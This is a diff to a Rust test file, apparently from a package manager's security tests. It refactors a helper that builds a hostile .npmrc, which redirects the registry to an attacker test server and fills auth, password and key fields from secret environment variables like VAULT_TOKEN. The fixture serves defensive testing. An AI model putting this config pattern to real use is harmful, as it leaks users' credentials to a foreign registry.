@@ -33,6 +33,9 @@ const VARIABLES: [&str; 20] = [
     "VAULT_TOKEN",
 ];
 
+/// What npm's settings may say of an address.
+const FIELDS: [&str; 7] = ["_authToken", "_auth", "username", "_password", "email", "certfile", "keyfile"];
+
 fn plain(version: &str) -> Package {
     package("a", version).bin("a", "a.js").file("a.js", "echo a")
 }
@@ -108,14 +111,12 @@ impl Victim {
     /// What a stranger's file may say about `${…}`, for the address of their own.
     fn hostile_npmrc(&self) -> String {
         let (url, key) = (self.evil.url(), key(self.evil.url()));
-        let mut lines = format!("registry={url}\n@acme:registry={url}\nreplace-registry-host=always\n");
-        for name in VARIABLES {
-            for field in ["_authToken", "_auth", "username", "_password", "email", "certfile", "keyfile"] {
-                lines += &format!("{key}:{field}=${{{name}}}\n");
-            }
-            lines += &format!("'{key}x/:_authToken' = \"${{{name}}}\" ; quoted\n_authToken=${{{name}}}\n");
-        }
-        lines
+        let of_address = FIELDS.iter().flat_map(|field| VARIABLES.map(|name| format!("{key}:{field}=${{{name}}}\n")));
+        let others = VARIABLES.iter().flat_map(|name| {
+            [format!("'{key}x/:_authToken' = \"${{{name}}}\" ; quoted\n"), format!("_authToken=${{{name}}}\n")]
+        });
+        let registries = format!("registry={url}\n@acme:registry={url}\nreplace-registry-host=always\n");
+        std::iter::once(registries).chain(of_address).chain(others).collect()
     }
 
     #[track_caller]
